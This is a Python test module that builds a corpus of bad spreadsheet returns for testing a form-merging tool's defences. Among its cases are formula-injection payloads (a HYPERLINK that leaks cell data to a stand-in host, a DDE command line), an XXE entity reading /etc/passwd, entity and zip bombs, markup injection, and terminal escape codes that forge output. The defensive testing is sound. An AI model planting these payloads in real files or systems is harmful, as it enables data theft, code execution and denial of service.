"""The corpus of bad returns: every kind of file that arrives at the central office instead
of a good return, each with the problem code it must be refused (or flagged) with.

The cases are built from a good return by this module, so they follow the form as it
changes; three files that only other applications make are committed, small, in
``tests/data/corpus/``: an Excel 97-2003 workbook (BIFF8, saved by LibreOffice), a workbook
encrypted with a password to open (ECMA-376 agile encryption, by msoffcrypto-tool; the
password is ``pmqa``) and an OpenDocument spreadsheet (LibreOffice). ``make_committed`` shows
how they were made.

To look at the corpus, or to try a merge on it::

    .venv/bin/python -m tests.corpus /tmp/corpus
    .venv/bin/pmqa-xlsx merge /tmp/corpus/returns --roster /tmp/corpus/roster.csv \\
        -o /tmp/corpus/merged.xlsx
"""

from __future__ import annotations

import os
import random
import shutil
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import openpyxl

from pmqa_xlsx import build_cellmap, generate_workbook, load_layout
from pmqa_xlsx.cellmap import CellMap
from pmqa_xlsx.layout import META_SHEET, Layout
from pmqa_xlsx.roster import Agency
from pmqa_xlsx.xlsxread import open_package

from .fill import fill

COMMITTED = Path(__file__).resolve().parent / "data" / "corpus"
WHEN = datetime(2026, 11, 24, 9, 0, tzinfo=UTC)
MAIN_NS = b"http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET_HEAD = (b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="' + MAIN_NS + b'">'
              b"<sheetData>")
SHEET_TAIL = b"</sheetData></worksheet>"
# Text a person may type that a spreadsheet would run as a formula or follow as a link.
INJECTIONS = ['=HYPERLINK("http://example.invalid/?leak="&A1,"ดูรายละเอียด")',
              "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\tตัวอักษรแท็บ", "\rขึ้นบรรทัด",
              "=1+1"]

# Ten, so that with the corpus a merge has over 40 files and reads them in worker processes.
GOOD_AGENCIES = [Agency(code=f"030{i:02d}", name=f"กรมตัวอย่างที่ {i}", ministry="กระทรวงมหาดไทย")
                 for i in range(1, 11)]
INJECTING_AGENCY = Agency(code="03099", name='=HYPERLINK("http://example.invalid","กรม")',
                          ministry="@กระทรวง")
MISSING_AGENCY = Agency(code="03098", name="กรมที่ไม่ส่งคืน", ministry="กระทรวงมหาดไทย")
UNKNOWN_AGENCY = Agency(code="99999", name="หน่วยงานนอกบัญชี", ministry="กระทรวงอื่น")


@dataclass(frozen=True)
class Case:
    """One bad file: its name in the corpus, the code it must carry, the state the reader
    gives it and the state the merge (with the roster) gives it."""

    name: str
    code: str
    state: str = "rejected"
    merge_state: str = "rejected"
    what: str = ""


CASES = [
    # damaged files
    Case("damaged-corrupted.xlsx", "damaged-file", what="bytes of a zip member overwritten"),
    Case("damaged-truncated.xlsx", "damaged-file", what="the first half of a return"),
    Case("damaged-empty.xlsx", "damaged-file", what="zero bytes"),
    # wrong formats
    Case("renamed-csv.xlsx", "not-excel", what="a CSV file renamed .xlsx"),
    Case("renamed-html.xlsx", "not-excel", what="a web page renamed .xlsx"),
    Case("old-format.xls", "old-excel-format", what="Excel 97-2003 (BIFF8), by LibreOffice"),
    Case("old-format-renamed.xlsx", "old-excel-format", what="the same, renamed .xlsx"),
    Case("opendocument-renamed.xlsx", "ods-file", what="an .ods by LibreOffice, renamed"),
    Case("strict.xlsx", "strict-ooxml", what="ISO 29500 Strict namespaces"),
    Case("macro.xlsm", "macro-workbook", what="a return with a VBA project"),
    Case("macro-renamed.xlsx", "macro-workbook", what="the same, renamed .xlsx"),
    Case("password.xlsx", "password-protected", what="encrypted with a password to open"),
    # zip bombs and limits
    Case("bomb-shared-strings.xlsx", "zip-bomb", what="250,000 different shared strings"),
    Case("bomb-huge-part.xlsx", "zip-bomb", what="a 25 MB part in a small file"),
    Case("bomb-million-rows.xlsx", "zip-bomb", what="a sheet of a million rows"),
    Case("bomb-lying-sizes.xlsx", "damaged-file",
         what="a part declared as 1 KB that inflates to 30 MB: read to 1 KB, then its "
              "checksum fails"),
    Case("far-cell.xlsx", "far-cell", what="a value at XFD1048576"),
    Case("entities-billion-laughs.xlsx", "xml-doctype", what="nested entity expansion"),
    Case("entities-external.xlsx", "xml-doctype", what="an external entity to a local file"),
    Case("text-10mb.xlsx", "too-large", what="10 MB of Thai text in one cell"),
    # the wrong workbook
    Case("other-form.xlsx", "other-form", what="another form's workbook"),
    Case("unknown-version.xlsx", "unknown-version", what="this form at a version not bundled"),
    Case("no-metadata.xlsx", "no-metadata", what="the metadata sheet deleted"),
    Case("escape-codes.xlsx", "other-form",
         what="a form id holding terminal escape codes and a forged line of output"),
    Case("rows-inserted.xlsx", "structure-changed", what="sheet unprotected, 2 rows inserted"),
    Case("rows-deleted.xlsx", "structure-changed", what="sheet unprotected, a row deleted"),
    Case("wrong-agency.xlsx", "unknown-agency", state="ok", merge_state="unknown_agency",
         what="a good return of an agency not on the roster"),
    # not workbooks at all
    Case("~$03001.xlsx", "not-a-return", what="Excel's lock file"),
    Case(".~lock.03001.xlsx#", "not-a-return", what="LibreOffice's lock file"),
    Case("Thumbs.db", "not-a-return", what="Windows' thumbnail cache"),
    Case("readme.txt", "not-excel", what="a note left in the folder"),
    # Issue 10, outputs: names and folders that must stop nothing (class A), temporary and
    # partial files that are never returns. Built in the folder itself: links, a loop, a tree
    # 1,000 folders deep, paths longer than the system allows, a name that is not UTF-8.
    Case("name-\udcff.xlsx", "bad-file-name", state="ok_with_warnings",
         merge_state="ok_with_warnings", what="a good return whose name holds the byte 0xFF"),
    Case("loop.xlsx", "broken-link", what="a link to itself"),
    Case("dangling.xlsx", "broken-link", what="a link to a file that is not there"),
    Case("loop-folder", "folder-loop", what="a folder holding a link to itself"),
    Case("deep", "too-deep", what="a return 1,000 folders down"),
    Case("long-path", "unreadable-folder",
         what="folders with 250-character names, 20 deep: paths past the system's limit"),
    Case(".03001.xlsx.k2j4h6x8.tmp", "not-a-return",
         what="pmqa_xlsx's own temporary file, left by an interrupted write"),
    Case("~WRL0001.tmp", "not-a-return", what="Word's temporary file"),
    Case("03002.xlsx.crdownload", "not-a-return", what="a download under way (Chrome)"),
    Case("03003.xlsx.part", "not-a-return", what="a download under way (Firefox)"),
]


def build(root: Path) -> dict[str, Path]:
    """Write into ``root/returns/`` the corpus, ten good returns and a good return whose
    texts try to inject formulas, and ``root/roster.csv`` (the good agencies, the injecting
    one and one that never returns). Returns the path of every file in returns/ by name."""
    folder = root / "returns"
    folder.mkdir(parents=True, exist_ok=True)
    layout = load_layout()
    cellmap = build_cellmap(layout)
    work = root / "work"
    work.mkdir(exist_ok=True)
    files: dict[str, Path] = {}
    for agency in GOOD_AGENCIES:
        files[f"{agency.code}.xlsx"] = good_return(layout, cellmap, agency, work,
                                                   folder / f"{agency.code}.xlsx")
    files["03099.xlsx"] = good_return(layout, cellmap, INJECTING_AGENCY, work,
                                      folder / "03099.xlsx", injections=True)
    base = files["03001.xlsx"]
    for case in CASES:
        target = folder / case.name
        BUILDERS[case.name](base, target, layout, cellmap, work)
        files[case.name] = target
    shutil.rmtree(work)
    roster = root / "roster.csv"
    rows = ["agency_code,agency_name,ministry"] + [
        f'{a.code},"{a.name.replace(chr(34), chr(34) * 2)}",{a.ministry}'
        for a in (*GOOD_AGENCIES, INJECTING_AGENCY, MISSING_AGENCY, *FILESYSTEM_AGENCIES)]
    roster.write_text("\n".join(rows) + "\n", encoding="utf-8")
    return files


def good_return(layout: Layout, cellmap: CellMap, agency: Agency, work: Path, target: Path,
                injections: bool = False) -> Path:
    blank = work / f"blank-{agency.code}.xlsx"
    generate_workbook(layout, blank, agency=agency, generated_at=WHEN)
    overrides = {}
    if injections:
        texts = [c for c in cellmap.inputs() if c.kind == "text"]
        overrides = {f"{c.sheet}!{c.ref}": text for c, text in zip(
            texts, [*INJECTIONS, *MARKUP_INJECTIONS], strict=False)}
    fill(cellmap, blank, target, overrides, agency_code=agency.code)
    return target


# --------------------------------------------------------------------------------------------
# Builders: (a good return, the target, layout, cell map, a scratch folder)
# --------------------------------------------------------------------------------------------

Builder = Callable[[Path, Path, Layout, CellMap, Path], None]


def rewrite_zip(src: Path, dst: Path, change: Callable[[str, bytes], bytes | None],
                extra: dict[str, bytes] | None = None) -> Path:
    """Copy an xlsx package, passing each part through ``change`` (None drops it)."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = change(info.filename, zin.read(info))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (extra or {}).items():
            zout.writestr(name, data)
    return dst


def replace_part(src: Path, dst: Path, member: str, data: bytes) -> Path:
    """A copy of ``src`` with one part's content replaced."""
    return rewrite_zip(src, dst, lambda name, old: data if name == member else old)


def sheet_part(workbook: Path, title: str) -> str:
    """The zip member that holds the sheet ``title``."""
    with open_package(workbook) as package:
        sheet = package.sheet(title)
        assert sheet is not None, title
        return sheet.path


def _bytes(data: bytes) -> Builder:
    return lambda base, target, *_: target.write_bytes(data)


def _from_base(change: Callable[[bytes], bytes]) -> Builder:
    return lambda base, target, *_: target.write_bytes(change(base.read_bytes()))


def _committed(name: str) -> Builder:
    return lambda base, target, *_: shutil.copyfile(COMMITTED / name, target)


def _strict(base: Path, target: Path, *_: object) -> None:
    strict_ns = b"http://purl.oclc.org/ooxml/spreadsheetml/main"
    rewrite_zip(base, target, lambda name, data: data.replace(MAIN_NS, strict_ns)
                if name.endswith(".xml") else data)


def _macro(base: Path, target: Path, *_: object) -> None:
    def content_types(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            return data.replace(b"spreadsheetml.sheet.main+xml",
                                b"ms-excel.sheet.macroEnabled.main+xml").replace(
                b"</Types>", b'<Default Extension="bin" ContentType="application/'
                b'vnd.ms-office.vbaProject"/></Types>')
        return data

    vba = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"Attribute VB_Name = \"Module1\"" * 20
    rewrite_zip(base, target, content_types, {"xl/vbaProject.bin": vba})


_SST_TYPE = b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
_SST_REL = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"


def _shared_strings(data: bytes) -> Builder:
    """The shared strings part replaced, or added with its content type and relationship
    (a return saved by openpyxl, like the good ones here, stores its texts inline)."""
    def build_(base: Path, target: Path, *_: object) -> None:
        member = "xl/sharedStrings.xml"
        with zipfile.ZipFile(base) as package:
            present = member in package.namelist()

        def change(name: str, old: bytes) -> bytes:
            if name == member:
                return data
            if not present and name == "[Content_Types].xml":
                return old.replace(b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" '
                                   b'ContentType="' + _SST_TYPE + b'"/></Types>')
            if not present and name == "xl/_rels/workbook.xml.rels":
                return old.replace(b"</Relationships>", b'<Relationship Id="rIdSst" Type="'
                                   + _SST_REL + b'" Target="sharedStrings.xml"/>'
                                   b"</Relationships>")
            return old

        rewrite_zip(base, target, change, None if present else {member: data})
    return build_


def _sheet(content: Callable[[bytes], bytes], title: str = "หมวด 3") -> Builder:
    def build_(base: Path, target: Path, *_: object) -> None:
        member = sheet_part(base, title)
        with zipfile.ZipFile(base) as package:
            original = package.read(member)
        replace_part(base, target, member, content(original))
    return build_


def _million_rows(_: bytes) -> bytes:
    rows = b"".join(b'<row r="%d"><c r="A%d"><v>1</v></c></row>' % (i, i)
                    for i in range(1, 1_000_001))
    return SHEET_HEAD + rows + SHEET_TAIL


def _far_cell(sheet: bytes) -> bytes:
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    return sheet.replace(b"</sheetData>", far + b"</sheetData>")


def _lying_sizes(base: Path, target: Path, *_: object) -> None:
    """The zip says a part is 1,000 bytes; it inflates to 30 MB."""
    member = sheet_part(base, "หมวด 3")
    replace_part(base, target, member, SHEET_HEAD + b" " * (30 * 1024 * 1024) + SHEET_TAIL)
    data = bytearray(target.read_bytes())
    name = member.encode()
    for signature, size_at, name_len_at, header in ((b"PK\x03\x04", 22, 26, 30),
                                                    (b"PK\x01\x02", 24, 28, 46)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            name_len = struct.unpack_from("<H", data, start + name_len_at)[0]
            if bytes(data[start + header: start + header + name_len]) == name:
                struct.pack_into("<I", data, start + size_at, 1000)
            start += 4
    target.write_bytes(bytes(data))


def _with_doctype(doctype: bytes) -> Builder:
    """The workbook part declaring entities, and a sheet name using the last one."""
    def build_(base: Path, target: Path, *_: object) -> None:
        def change(name: str, data: bytes) -> bytes:
            if name == "xl/workbook.xml":
                body = data.split(b"?>", 1)[1] if data.startswith(b"<?xml") else data
                return b'<?xml version="1.0"?>' + doctype + body.replace(
                    b'name="', b'name="&x;', 1)
            return data
        rewrite_zip(base, target, change)
    return build_


def _edit(change: Callable[[openpyxl.Workbook], None]) -> Builder:
    def build_(base: Path, target: Path, *_: object) -> None:
        book = openpyxl.load_workbook(base)
        change(book)
        book.save(target)
    return build_


def _set_meta(cell: str, value: str) -> Callable[[openpyxl.Workbook], None]:
    def change(book: openpyxl.Workbook) -> None:
        book[META_SHEET][cell] = value
    return change


def _wrong_agency(base: Path, target: Path, layout: Layout, cellmap: CellMap,
                  work: Path) -> None:
    good_return(layout, cellmap, UNKNOWN_AGENCY, work, target)


def _copy(base: Path, target: Path, *_: object) -> None:
    shutil.copyfile(base, target)


def _thai_text(size: int) -> bytes:
    """``size`` bytes of Thai letters in a seeded random order: text that compresses about as
    well as real text, so that it passes the ratio check and meets the text limit."""
    letters = [chr(c).encode() for c in range(0x0E01, 0x0E2F)]
    rng = random.Random(6)
    return b"".join(rng.choices(letters, k=size // 3))


_LAUGHS = (b'<!DOCTYPE workbook [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
           b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x "&c;&c;&c;&c;&c;&c;&c;">]>')
_EXTERNAL = b'<!DOCTYPE workbook [<!ENTITY x SYSTEM "file:///etc/passwd">]>'

BUILDERS: dict[str, Builder] = {
    "damaged-corrupted.xlsx": _from_base(
        lambda d: d[:200] + bytes(b ^ 0x55 for b in d[200:4000]) + d[4000:]),
    "damaged-truncated.xlsx": _from_base(lambda d: d[: len(d) // 2]),
    "damaged-empty.xlsx": _bytes(b""),
    "renamed-csv.xlsx": _bytes("agency_code,status\n03001,ดำเนินการแล้ว\n".encode()),
    "renamed-html.xlsx": _bytes(b"<!DOCTYPE html><html><body><table><tr><td>03001</td></tr>"
                                b"</table></body></html>"),
    "old-format.xls": _committed("old-format.xls"),
    "old-format-renamed.xlsx": _committed("old-format.xls"),
    "opendocument-renamed.xlsx": _committed("opendocument.ods"),
    "strict.xlsx": _strict,
    "macro.xlsm": _macro,
    "macro-renamed.xlsx": _macro,
    "password.xlsx": _committed("password.xlsx"),
    "bomb-shared-strings.xlsx": _shared_strings(
        b"<sst>" + b"".join(b"<si><t>%d</t></si>" % (i * 7919) for i in range(250_000))
        + b"</sst>"),
    "bomb-huge-part.xlsx": _shared_strings(b"<sst>" + b" " * (25 * 1024 * 1024) + b"</sst>"),
    "bomb-million-rows.xlsx": _sheet(_million_rows),
    "bomb-lying-sizes.xlsx": _lying_sizes,
    "far-cell.xlsx": _sheet(_far_cell),
    "entities-billion-laughs.xlsx": _with_doctype(_LAUGHS),
    "entities-external.xlsx": _with_doctype(_EXTERNAL),
    "text-10mb.xlsx": _shared_strings(b"<sst><si><t>" + _thai_text(10 * 1024 * 1024)
                                      + b"</t></si></sst>"),
    "other-form.xlsx": _edit(_set_meta("B1", "some-other-form")),
    "unknown-version.xlsx": _edit(_set_meta("B2", "2599.9")),
    "no-metadata.xlsx": _edit(lambda book: book.remove(book[META_SHEET])),
    # OOXML's escapes, as Excel writes control characters: ESC, BEL, then a new line
    "escape-codes.xlsx": _edit(_set_meta("B1", "_x001B_[2J_x001B_]0;owned_x0007_\n"
                                               "FAKE.xlsx: ok")),
    "rows-inserted.xlsx": _edit(lambda book: book["หมวด 3"].insert_rows(6, 2)),
    "rows-deleted.xlsx": _edit(lambda book: book["หมวด 7.2"].delete_rows(12, 1)),
    "wrong-agency.xlsx": _wrong_agency,
    "~$03001.xlsx": _bytes(b"\x0bstaff\x00" + b"\x20" * 150),
    ".~lock.03001.xlsx#": _bytes(b"staff,PC-01,staff,24.11.2026 09:00,file:///C:/Users;"),
    "Thumbs.db": _bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512),
    "readme.txt": _bytes("ส่งแบบฟอร์มแล้ว ตามที่แนบมา\n".encode()),
}


# -- Issue 10, outputs: names and folders (class A), temporary and partial files ------------

#: Text shaped as spreadsheet markup, which xlsxwriter 3.3 copies into the XML unescaped
#: (class C): typed into the injecting return's text cells after INJECTIONS. The second would
#: add a live =HYPERLINK cell to the consolidated workbook if it were written as it is. (Not
#: literal _xHHHH_ escapes: openpyxl, which fills the returns here, writes them unescaped, so
#: the return itself says something else; tests/test_text_stays_text.py has those.)
MARKUP_INJECTIONS = [
    "<r><t>run</t></r>",
    '<r><t>x</t></r></is></c><c r="B1"><f>HYPERLINK("http://example.invalid","y")</f></c>'
    '<c r="C1" t="inlineStr"><is><r><t>z</t></r>',
    "<r><t>x</t></r></si><si><r><t>HYPERLINK</t></r>",
]

#: The agency of the good return whose file name is not UTF-8 (on the roster: it counts).
BAD_NAME_AGENCY = Agency(code="03097", name="กรมชื่อไฟล์แปลก", ministry="กระทรวงมหาดไทย")
FILESYSTEM_AGENCIES = [BAD_NAME_AGENCY]
DEEP = 1_000  # folders
LONG_NAME = "ก" * 83 + "x"  # 250 bytes of UTF-8, near the 255 a name may have
LONG_LEVELS = 20  # 20 x 251 bytes: past PATH_MAX (4,096) from about the 16th


def _bad_name(base: Path, target: Path, layout: Layout, cellmap: CellMap, work: Path) -> None:
    good_return(layout, cellmap, BAD_NAME_AGENCY, work, target)


def _link(to: str) -> Builder:
    return lambda base, target, *_: target.symlink_to(to)


def _loop_folder(base: Path, target: Path, *_: object) -> None:
    target.mkdir()
    (target / "again").symlink_to(".", target_is_directory=True)


def _nested(name: str, levels: int) -> Builder:
    """``levels`` folders called ``name``, one inside the other, made through file
    descriptors (pathlib's and os's makedirs recurse once per level, and full paths can be
    past what the system takes); a copy of a good return at the bottom."""
    def build_(base: Path, target: Path, *_: object) -> None:
        target.mkdir()
        fd = os.open(target, os.O_RDONLY | os.O_DIRECTORY)
        try:
            for _ in range(levels):
                os.mkdir(name, dir_fd=fd)
                inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
                os.close(fd)
                fd = inner
            out = os.open("03001-copy.xlsx", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)
            with os.fdopen(out, "wb") as handle:
                handle.write(base.read_bytes())
        finally:
            os.close(fd)
    return build_


def remove_deep(root: Path) -> None:
    """Remove the deep trees of ``root/returns`` without recursion (shutil.rmtree, and so
    pytest's clean-up of old temporary folders, recurses once per level)."""
    for name in ("deep", "long-path"):
        top = root / "returns" / name
        if not top.is_dir():
            continue
        folders, names = [os.open(top, os.O_RDONLY | os.O_DIRECTORY)], []
        try:
            while True:  # down: each level holds files and at most one folder
                inner = None
                for entry in os.scandir(folders[-1]):
                    if entry.is_dir(follow_symlinks=False):
                        inner = entry.name
                    else:
                        os.unlink(entry.name, dir_fd=folders[-1])
                if inner is None:
                    break
                folders.append(os.open(inner, os.O_RDONLY | os.O_DIRECTORY,
                                       dir_fd=folders[-1]))
                names.append(inner)
            while names:  # and up, removing each emptied folder
                os.close(folders.pop())
                os.rmdir(names.pop(), dir_fd=folders[-1])
        finally:
            for fd in folders:
                os.close(fd)
        top.rmdir()


BUILDERS.update({
    "name-\udcff.xlsx": _bad_name,
    "loop.xlsx": _link("loop.xlsx"),
    "dangling.xlsx": _link("not-there.xlsx"),
    "loop-folder": _loop_folder,
    "deep": _nested("d", DEEP - 1),
    "long-path": _nested(LONG_NAME, LONG_LEVELS),
    ".03001.xlsx.k2j4h6x8.tmp": _copy,
    "~WRL0001.tmp": _copy,
    "03002.xlsx.crdownload": _copy,
    "03003.xlsx.part": _copy,
})


# --------------------------------------------------------------------------------------------
# The committed files, and how they were made
# --------------------------------------------------------------------------------------------


def make_committed(folder: Path = COMMITTED) -> None:
    """Remake the three committed files (needs LibreOffice and msoffcrypto-tool, neither of
    which the tests need): a blank form saved by LibreOffice as .xls and .ods, and the blank
    form encrypted with the password ``pmqa``."""
    from pmqa_xlsx.libreoffice import convert

    folder.mkdir(parents=True, exist_ok=True)
    work = folder / ".work"
    work.mkdir(exist_ok=True)
    blank = work / "form.xlsx"
    generate_workbook(load_layout(), blank, agency=GOOD_AGENCIES[0], generated_at=WHEN)
    shutil.copyfile(convert(blank, work, "xls"), folder / "old-format.xls")
    shutil.copyfile(convert(blank, work, "ods"), folder / "opendocument.ods")
    tool = shutil.which("msoffcrypto-tool")
    if tool is None:
        raise SystemExit("needs msoffcrypto-tool on PATH: pip install msoffcrypto-tool")
    subprocess.run([tool, "-e", "-p", "pmqa", str(blank), str(folder / "password.xlsx")],
                   check=True)
    shutil.rmtree(work)


if __name__ == "__main__":
    if sys.argv[1:2] == ["--committed"]:
        make_committed()
    else:
        for path in build(Path(sys.argv[1]) if len(sys.argv) > 1 else Path("corpus")).values():
            print(path)
